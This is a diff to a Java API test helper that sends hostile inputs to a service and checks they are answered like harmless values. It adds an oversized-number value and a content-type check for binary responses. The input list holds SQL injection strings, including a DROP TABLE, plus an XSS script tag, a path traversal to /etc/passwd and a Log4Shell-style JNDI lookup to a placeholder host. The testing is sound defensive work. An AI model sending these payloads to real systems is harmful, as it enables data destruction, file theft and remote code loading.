@@ -93,7 +93,7 @@ public final class HostileInputs {
   /** JsonHardening.MAX_STRING + 1. */
   static final int HUGE_STRING = 1_000_001;
   static final List<String> INJECTIONS = List.of("35.02.08' or '1'='1", "1; DROP TABLE kecamatan --", "<script>alert(1)</script>",
-      "../../../../etc/passwd", "${jndi:ldap://x.example/a}", "\u0000", "%27%20or%201%3D1");
+      "../../../../etc/passwd", "${jndi:ldap://x.example/a}", "\u0000", "%27%20or%201%3D1", "1e999999999");
 
   private final String service;
   private final ApiOperations api;
@@ -247,7 +247,10 @@ public final class HostileInputs {
     Expect e = v.expect();
     if (e.inertAgainst() != null && status >= 200 && status < 300) {
       Response harmless = e.inertAgainst().send();
-      if (harmless.statusCode() != status || !Answers.body(harmless).equals(Answers.body(answer))) {
+      // A binary answer (XLSX, PDF) differs byte for byte between two identical requests (timestamps inside): only
+      // its status is compared; the JSON form of the same operation compares the content.
+      boolean json = answer.contentType() != null && answer.contentType().contains("json");
+      if (harmless.statusCode() != status || json && !Answers.body(harmless).equals(Answers.body(answer))) {
         out.add("accepted, and answered differently from a harmless value (" + harmless.statusCode() + "): "
             + ApiRequest.cut(Answers.body(answer), 200));
       }
